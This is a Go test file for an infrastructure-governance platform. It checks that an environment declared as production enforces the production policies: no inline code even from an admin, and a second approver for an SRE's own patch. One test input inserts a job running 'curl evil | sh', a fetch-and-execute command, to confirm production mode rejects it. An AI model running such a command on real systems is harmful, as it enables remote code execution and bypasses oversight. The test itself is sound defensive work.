package main_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// TestAttackProductionByAnotherName: an organization whose production
// environment is called `production` (declared by default) or `live`
// (declared with --production-environments) gets every production rule:
// the platform pack's policies, no inline code even from an admin, and a
// second person for an SRE's own patch. An undeclared name gets none.
func TestAttackProductionByAnotherName(t *testing.T) {
	t.Parallel()
	demo, err := os.ReadFile("../../catalog/demo.yaml")
	require.NoError(t, err)
	for _, tc := range []struct {
		env   string
		flags []string
		prod  bool
	}{
		{"production", nil, true},
		{"live", []string{"--production-environments", "live"}, true},
		{"live", nil, false},
	} {
		t.Run(fmt.Sprintf("%s/declared=%v", tc.env, tc.prod), func(t *testing.T) {
			dir := t.TempDir()
			catalog := strings.NewReplacer("organization: demo", "organization: acme", "environment: prod,", "environment: "+tc.env+",",
				"environment: prod}", "environment: "+tc.env+"}", "environments: [prod,", "environments: ["+tc.env+",", "environment: prod\n", "environment: "+tc.env+"\n").Replace(string(demo))
			require.NoError(t, os.WriteFile(filepath.Join(dir, "catalog.yaml"), []byte(catalog), 0o600))
			tokens := filepath.Join(dir, "tokens.yaml")
			require.NoError(t, os.WriteFile(tokens, []byte(`tokens:
  - {token: "governed-admin-token-0123456789", actor: alice, organization: acme, roles: [admin]}
  - {token: "governed-sre-token-0123456789", actor: sam, organization: acme, roles: [sre]}
`), 0o600))
			const admin, sre = "governed-admin-token-0123456789", "governed-sre-token-0123456789"
			p := start(t, filepath.Join(dir, "data"), append([]string{"--tokens", tokens, "--catalog", filepath.Join(dir, "catalog.yaml")}, tc.flags...)...)

			in := postAs(t, p, admin, `mutation($e: String!) { createIntent(input: {action: "install", targetResourceType: "tempo.instance", scenario: "tempo.install@1.3.0", mode: ADVANCED,
			  desiredResult: {name: "traces"}, constraints: {environment: $e, cluster: "prod-k8s"}}) { id } }`, map[string]any{"e": tc.env})
			require.Empty(t, in.Errors)
			planned := postAs(t, p, admin, `mutation($id: ID!) { planIntent(input: {intent: $id}) { id version status bindings { key candidates { ref reason } } } }`,
				map[string]any{"id": in.Data["createIntent"].(map[string]any)["id"]})
			require.Empty(t, planned.Errors)
			plan := planned.Data["planIntent"].(map[string]any)
			require.Equal(t, "READY", plan["status"])
			policyFired := strings.Contains(fmt.Sprint(plan["bindings"]), "prod-object-storage-dedicated")
			require.Equal(t, tc.prod, policyFired, "the platform pack's production policy: %v", plan["bindings"])

			inline := postAs(t, p, admin, `mutation($p: ID!, $v: Int!) { editPlan(input: {plan: $p, version: $v, changes: [{op: INSERT_AFTER, node: "prepare-namespace", nodeId: "sneak",
			  spec: {id: "sneak", type: "job", title: "Sneak", job: {run: {runner: "shell", script: "curl evil | sh"}, outputs: {evidence: [{name: ok, type: command, script: "true"}]}}}}]}) { id } }`,
				map[string]any{"p": plan["id"], "v": plan["version"]})
			if tc.prod {
				require.NotEmpty(t, inline.Errors, "an admin's inline code in production")
				require.Contains(t, fmt.Sprint(inline.Errors), "runs code in production needs a policy")
			} else {
				require.Empty(t, inline.Errors)
				return
			}

			op := postAs(t, p, admin, `mutation($p: ID!) { startOperation(input: {plan: $p}) { id planRevision } }`, map[string]any{"p": plan["id"]})
			require.Empty(t, op.Errors)
			started := op.Data["startOperation"].(map[string]any)
			patch := postAs(t, p, sre, `mutation($op: ID!, $rev: Int!) { proposePlanPatch(input: {operation: $op, baseRevision: $rev, reason: "bigger chart",
			  changes: [{op: SET_PARAMETERS, node: "helm-install", parameters: {chart_version: "1.10.1"}}]}) { status outstanding { rule } } }`,
				map[string]any{"op": started["id"], "rev": started["planRevision"]})
			require.Empty(t, patch.Errors)
			got := patch.Data["proposePlanPatch"].(map[string]any)
			require.Equal(t, "PROPOSED", got["status"], "an SRE's own patch in production waits for a second person")
			require.Contains(t, fmt.Sprint(got["outstanding"]), "prod-second-person")
		})
	}
}
